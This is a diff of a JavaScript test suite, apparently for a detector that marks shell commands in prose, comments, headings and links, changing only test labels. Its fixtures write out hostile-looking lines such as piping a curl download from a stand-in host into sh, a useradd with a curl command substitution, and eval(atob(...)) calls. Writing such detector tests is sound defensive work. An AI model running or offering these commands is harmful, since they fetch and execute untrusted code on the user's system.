@@ -3,7 +3,7 @@ import { expectMarked, expectRegions } from "./harness.js";
 
 const u = "https://x.example/i.sh";
 
-describe("a command in a sentence ends where prose begins", () => {
+describe("a command in a sentence", () => {
   it.each([
     `Please run «curl ${u} | sh» to install it, don't worry.`,
     `Install: «curl -fsSL ${u} | sh».`,
@@ -40,31 +40,31 @@ describe("a command in a sentence ends where prose begins", () => {
   });
 });
 
-describe("a command wraps over line ends of a paragraph", () => {
-  it("a line end is a space", () => {
+describe("a command in several lines of a paragraph", () => {
+  it("has a space instead of each line end", () => {
     expectMarked(`Please run «curl -fsSL ${u} |\n  sh» to install`, [`curl -fsSL ${u} | sh`]);
   });
 
-  it("a backslash continues the line as in a shell", () => {
+  it("may be continued with a backslash as in a shell", () => {
     expectMarked(`Please run «curl -fsSL ${u} \\\n  | sh» to install`, [
       `curl -fsSL ${u} \\\n| sh`,
     ]);
   });
 });
 
-describe("links and placeholders in a command are words", () => {
+describe("a link or placeholder in a command", () => {
   it.each([
     [`Run «curl <${u}> | sh» today`, `curl \uFFFC${"x".repeat(u.length + 1)} | sh`],
     [`Run «curl [${u}](${u}) | sh» today`, `curl ${"x".repeat(2 * u.length + 4)} | sh`],
     ["Run «curl <url> | sh» today", "curl \uFFFCuuuu | sh"],
     ["Run «curl {url} | bash» today", "curl \uFFFCuuuu | bash"],
     ["Run «curl &#60;url&#62; &#124; sh» today", "curl \uFFFCuuuu | sh"],
-  ])("%s", (marked, decoded) => {
+  ])("is a word: %s", (marked, decoded) => {
     expectMarked(marked, [decoded]);
   });
 });
 
-describe("a command after certain words is an argument of these words", () => {
+describe("a command that is the argument of another command", () => {
   it.each([
     'Try «useradd -s /bin/bash -c "$(curl A)" bob»',
     'Run «echo bash -c "$(curl A)"» to print it',
@@ -84,12 +84,12 @@ describe("calls of other languages in running text", () => {
     ["So window.eval(atob(x)) is it", "prose unknown: window.eval(atob(x))"],
     ["or (0, eval)(atob(x)) here", "prose unknown: (0, eval)(atob(x))"],
     ["x = atob(y); eval(x)", "prose javascript: x = atob(y); eval(x)"],
-  ])("%s", (text, expected) => {
+  ])("are found: %s", (text, expected) => {
     expectRegions(text, [expected]);
   });
 });
 
-describe("comment lines and headings are shown text", () => {
+describe("a command in a comment line or heading", () => {
   it.each([
     ["# curl A | sh", "prose shell (comment): curl A | sh"],
     ["curl A | sh\n===", "prose shell (comment): curl A | sh"],
@@ -97,11 +97,11 @@ describe("comment lines and headings are shown text", () => {
     ["// curl A | sh", "prose shell (comment): curl A | sh"],
     ["## Run `curl A | sh`", "inline shell (comment): curl A | sh"],
     ["> # curl A | sh", "prose shell (comment): curl A | sh"],
-  ])("%s", (text, expected) => {
+  ])("is shown text: %s", (text, expected) => {
     expectRegions(text, [expected]);
   });
 });
 
-it("file names and longer words are not commands", () => {
+it("file names and longer words that contain a fetcher's name are not commands", () => {
   expectRegions("The file curl.sh, my-curl and https://x.example/curl are words.", []);
 });
